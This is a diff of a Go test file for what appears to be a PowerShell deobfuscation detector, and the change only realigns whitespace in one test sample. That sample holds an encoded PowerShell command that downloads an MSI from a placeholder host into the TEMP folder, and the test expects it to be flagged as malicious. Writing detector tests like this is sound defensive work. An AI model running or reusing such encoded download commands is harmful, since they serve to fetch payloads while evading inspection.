@@ -31,9 +31,9 @@ type sample struct {
 func samples(t *testing.T) []sample {
 	return []sample{
 		{
-			name:       "encoded download",
-			script:     "powershell.exe -NoProfile -EncodedCommand " + encodedCommand(`Invoke-WebRequest -Uri 'https://downloads.contoso-tools.example/agent/setup.msi' -OutFile "$env:TEMP\setup.msi"`),
-			layers:     2, lastMethod: "EncodedCommand", lastText: "Invoke-WebRequest -Uri",
+			name:   "encoded download",
+			script: "powershell.exe -NoProfile -EncodedCommand " + encodedCommand(`Invoke-WebRequest -Uri 'https://downloads.contoso-tools.example/agent/setup.msi' -OutFile "$env:TEMP\setup.msi"`),
+			layers: 2, lastMethod: "EncodedCommand", lastText: "Invoke-WebRequest -Uri",
 			verdict: psdeob.VerdictMalicious,
 			indicators: map[string]string{
 				"https://downloads.contoso-tools.example/agent/setup.msi": "url",
